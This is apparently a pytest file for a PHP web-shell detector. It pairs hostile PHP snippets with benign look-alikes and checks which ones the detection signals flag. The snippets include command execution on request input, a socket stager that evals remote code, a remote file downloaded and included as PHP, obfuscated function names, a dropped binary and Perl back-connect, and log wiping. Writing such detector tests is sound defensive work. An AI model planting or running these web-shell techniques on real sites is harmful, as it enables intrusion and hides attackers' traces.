"""Values followed through a small PHP file, and what its payloads are (phpflow.py), issue 14.

Each snippet is written here to show one technique (names, hosts and paths are made up); each has a
benign look-alike from ordinary application code that the same signal must leave alone.
"""

import base64

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, decode, php

UPLOADS = analyse.DEFAULT_UPLOAD_DIRS


def signals(code):
    """Signal names on the text as it is and on its normalised and decoded layers (analyse's two passes)."""
    return set(php.score_php([code]).found) | set(php.score_php(decode.layers(code)).found)


def verdict(code, name="site/page.php"):
    return analyse.analyse(name, code.encode("latin-1"), php.THRESHOLD, UPLOADS)


def wrapped_base64(data):
    text = base64.b64encode(data).decode()
    return "\n".join(text[i:i + 76] for i in range(0, len(text), 76))


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def xor_spelled(name, key):
    """PHP: a single-quoted key XOR a double-quoted escaped string, which PHP evaluates to ``name``."""
    return "'%s' ^ \"%s\"" % (key, "".join("\\x%02x" % (ord(a) ^ ord(b)) for a, b in zip(name, key)))


# (signal, shell-like snippet, benign look-alike)
CASES = [
    ("input_through_own_function",
     "<?php function run_it($c) { ob_start(); @passthru($c); return ob_get_clean(); }\n"
     "echo run_it(escapeshellarg($_POST['q']));",
     "<?php function run_it($c) { return @passthru($c); }\n"
     "echo run_it('uptime'); $q = htmlspecialchars($_POST['q']); echo $q;"),
    ("input_through_own_function",
     "<?php function go($f, $a) { return call_user_func_array($f, $a); }\ngo('assert', array($_REQUEST['z']));",
     "<?php function go($f, $a) { return call_user_func_array($f, $a); }\ngo('strtoupper', array($_REQUEST['z']));"),
    ("input_through_own_function",  # register_globals era: ?cmd=... is $cmd
     "<?php function sh($cmd) { return shell_exec($cmd); }\nif (isset($_GET['cmd'])) { echo sh($cmd); }",
     "<?php function sh($cmd) { return shell_exec($cmd); }\n"
     "if (isset($_GET['cmd'])) { $cmd = 'date'; echo sh($cmd); }"),
    ("input_interpolated_into_code",
     "<?php $src = trim($_POST['src']);\n$src = \"<?php\\n{$src}\\n?>\";\neval(\"?>$src<?php \");",
     "<?php $name = trim($_POST['name']);\n$tpl = file_get_contents('views/page.tpl');\neval('?>' . $tpl . '<?php ');"),
    ("input_interpolated_into_code",
     "<?php $s = fsockopen('198.51.100.4', 4444); $len = fread($s, 4); $b = '';\n"
     "while (strlen($b) < $len) { $b .= fread($s, $len - strlen($b)); }\neval($b);",
     "<?php $s = fsockopen('198.51.100.4', 80); fwrite($s, \"GET / HTTP/1.0\\r\\n\\r\\n\"); $b = fread($s, 512);\n"
     "eval('$n = 1 + 1;'); echo htmlspecialchars($b);"),
    ("runner_name_callback_with_input",
     "<?php filter_var_array(array('v' => $_REQUEST['v']), array('v' => array('filter' => FILTER_CALLBACK, "
     "'options' => 'assert')));",
     "<?php if (function_exists('exec') && !empty($_GET['probe'])) { echo 'exec is available'; }"),
    ("runner_name_callback_with_input",
     "<?php $list = new ArrayObject(array(1, $_POST['k'])); $list->uasort('assert');",
     "<?php $list = new ArrayObject(array(1, $_POST['k'])); $list->uasort('strcmp'); $m = 'system';"),
    ("callback_from_input",
     "<?php $f = $_REQUEST['f']; $x = array($_POST['x']); array_udiff($x, array(1), $f);",
     "<?php $ids = $_REQUEST['ids']; $x = array_map('intval', $ids); usort($x, 'compare_ids');"),
    ("hidden_runner_name_call",
     "<?php $k = 'sy' . 'st'; $k .= 'em'; $k($_GET['c']);",
     "<?php $k = 'str' . 'to'; $k .= 'upper'; echo $k($_GET['c']);"),
    ("hidden_runner_name_call",  # XOR of two literals makes the name
     "<?php $n = %s; $f = $n('', $_POST['a']); $f();" % xor_spelled("create_function", "ABCDEFGHIJKLMNO"),
     "<?php $n = %s; echo $n($_POST['a']);" % xor_spelled("strtolower", "ABCDEFGHIJ")),
    ("embedded_program_written",
     "<?php $bin = \"%s\";\n$fh = fopen('/tmp/.cache_x', 'wb'); fwrite($fh, base64_decode($bin)); fclose($fh);"
     % wrapped_base64(ELF),
     "<?php $logo = \"%s\";\nfile_put_contents('logo.png', base64_decode($logo));" % wrapped_base64(PNG)),
    ("script_written_and_run",
     "<?php $p = \"%s\";\n$h = fopen('bc.pl', 'w'); fwrite($h, base64_decode($p)); fclose($h);\n"
     "echo shell_exec('perl bc.pl ' . (int) $_POST['port']);" % wrapped_base64(b"#!/usr/bin/perl\nuse Socket;\n"),
     "<?php file_put_contents('cron/backup.sh', $script); echo shell_exec('crontab -l');\n"
     "echo shell_exec('sh other.sh.bak');"),
    ("login_records_wiped",
     "<?php foreach (array('/var/log/wtmp', '/var/log/lastlog', '/var/run/utmp', '/root/.bash_history') as $f) {"
     " @unlink($f); }",
     "<?php $logs = array('/var/log/messages', '/var/log/secure', '/var/log/syslog');\n"
     "foreach ($logs as $f) { echo htmlspecialchars(@file_get_contents($f)); }"),
    ("windows_shell_object",
     "<?php $w = new COM('WScript.Shell'); $w->Run('cmd /c ' . $_POST['c'], 0, false);",
     "<?php $word = new COM('Word.Application'); $word->Documents->Open($path); $word->Quit();"),
    ("interactive_shell_spawned",
     "<?php $p = proc_open($_SERVER['COMSPEC'], array(array('pipe', 'r'), array('pipe', 'w')), $pipes);\n"
     "fwrite($pipes[0], $_POST['c'] . \"\\n\");",
     "<?php $p = proc_open('/bin/sh -c ' . escapeshellarg($job), array(array('pipe', 'r')), $pipes);"),
    ("remote_file_saved_as_php",
     "<?php copy('http://203.0.113.8/tools/fm.txt', 'wp-content/fm.php'); include 'wp-content/fm.php';",
     "<?php copy('https://updates.example.org/pkg.zip', 'tmp/pkg.zip'); copy('config.php', 'config.php.bak');"),
]


@pytest.mark.parametrize("name,shell,benign", CASES, ids=[c[0] + "-" + str(i) for i, c in enumerate(CASES)])
def test_the_signal_finds_the_technique_and_leaves_its_look_alike(name, shell, benign):
    assert name in signals(shell)
    assert name not in signals(benign)


@pytest.mark.parametrize("index", [0, 3, 7, 10, 11, 13])
def test_the_technique_alone_makes_a_web_shell_and_the_look_alike_stays_clean(index):
    _name, shell, benign = CASES[index]
    assert verdict(shell)["kind"] == "webshell"
    assert verdict(benign)["kind"] is None


def test_a_commented_out_call_and_an_exec_output_argument_carry_nothing():
    # exec()'s second argument receives the output: a request value there runs nothing; nor does a comment.
    code = "<?php $out = $_GET['o'];\n// eval($out);\n/* system($out); */\nexec('uptime', $out, $rc);"
    assert "input_interpolated_into_code" not in signals(code)


def test_an_assert_of_a_condition_and_a_command_built_from_the_host_name_are_not_input_run():
    # A socket client asserting a length it read, and a tool building its own URL from the Host header.
    client = "<?php $s = fsockopen($host, 9312); $len = fread($s, 4); $max = $len - 8; assert($max >= 0);"
    tool = ("<?php $url = 'http://' . $_SERVER['HTTP_HOST'] . '/docs/';\n"
            "$cmd = 'apigen --base-url ' . $url; exec($cmd, $out);")
    assert "input_interpolated_into_code" not in signals(client)
    assert "input_interpolated_into_code" not in signals(tool)
    # A string handed to assert is run as code: the same read, asserted as a string, is.
    stager = "<?php $s = fsockopen($host, 9312); $code = fread($s, 4096); assert($code);"
    assert "input_interpolated_into_code" in signals(stager)
